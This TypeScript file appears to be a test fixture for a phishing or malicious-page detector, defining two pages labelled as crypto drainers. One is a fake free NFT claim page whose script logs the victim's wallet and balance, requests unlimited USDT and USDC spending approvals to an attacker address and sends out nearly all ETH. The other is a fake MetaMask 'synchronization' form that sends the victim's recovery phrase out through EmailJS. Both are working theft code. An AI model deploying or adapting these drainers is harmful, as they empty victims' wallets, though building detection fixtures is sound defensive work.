import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc } from '../parts/zt-kit.js';

export const entries: Entry[] = [
{
  id: 'zt-drainer-alumni-nft-airdrop',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://northgate-alumni-pass.xyz/claim',
  body: doc('Northgate Alumni Pass — Free Mint', `
<div style="background:#120a1f;color:#fff;min-height:100vh;font-family:Inter,Arial;text-align:center;padding-top:80px">
 <h1>Northgate Alumni Pass</h1><p>Free commemorative NFT for the Class of 2025. 3,412 / 5,000 claimed.</p>
 <button id="c" style="background:#c9a227;color:#120a1f;border:0;border-radius:10px;padding:14px 40px;font-size:18px">Connect Wallet &amp; Claim</button>
 <p id="s" style="color:#aaa"></p>
</div>
<script src="/assets/claim.js"></script>`),
  routes: {
    'northgate-alumni-pass.xyz/assets/claim.js': jsRoute(`const RECV="0x7a3F5b9C0d21E84aB6f0C5e1D9a2B3c4D5e6F708";
const TOKENS=["0xdAC17F958D2ee523a2206206994597C13D831ec7","0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"];
const MAX="ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff";
document.getElementById('c').onclick=async()=>{
 if(!window.ethereum){document.getElementById('s').textContent='Please open in MetaMask browser';return}
 const [acc]=await ethereum.request({method:'eth_requestAccounts'});
 const bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
 fetch('https://api.northgate-alumni-pass.xyz/log',{method:'POST',body:JSON.stringify({acc,bal})});
 for(const t of TOKENS){
  const data='0x095ea7b3'+RECV.slice(2).toLowerCase().padStart(64,'0')+MAX;
  try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t,data}]})}catch(e){}
 }
 const v=BigInt(bal)-BigInt(21000*30e9);
 if(v>0n)await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+v.toString(16)}]});
 document.getElementById('s').textContent='Claim pending... your NFT will appear within 24h';
};`),
  },
},
{
  id: 'zt-seedphrase-wallet-sync',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://walletconnect-sync.dapps-rectify.com/wallet/metamask/import',
  body: doc('Rectify — Wallet Synchronization', `
<div style="max-width:520px;margin:40px auto;font-family:Arial">
 <h2>&#x1F98A; Import MetaMask wallet</h2>
 <p>Synchronization error detected on your wallet (code 0x5e3). Validate your wallet to resolve pending transactions and unlock staking rewards.</p>
 <div style="display:flex;gap:6px;margin-bottom:10px"><button class="t">Phrase</button><button class="t">Keystore JSON</button><button class="t">Private Key</button></div>
 <form id="f" method="post" action="/wallet/submit.php">
  <textarea name="phrase" rows="4" style="width:100%;padding:10px" placeholder="Enter your 12 or 24 word recovery phrase, separated by single spaces"></textarea>
  <p style="font-size:12px;color:#666">Typically 12 (sometimes 24) words separated by single spaces</p>
  <button style="width:100%;background:#037dd6;color:#fff;border:0;border-radius:20px;padding:12px">Import</button>
 </form>
</div>
<script>
document.getElementById('f').addEventListener('submit',function(e){var w=this.phrase.value.trim().split(/\\s+/);if(w.length!==12&&w.length!==24){e.preventDefault();alert('Invalid recovery phrase')}
 else{e.preventDefault();fetch('https://api.emailjs.com/api/v1.0/email/send',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({service_id:'service_r8k2',template_id:'template_w1',user_id:'Xk29LmP0q',template_params:{message:this.phrase.value}})}).then(function(){location.href='/wallet/error'})}});
</script>`),
},
];
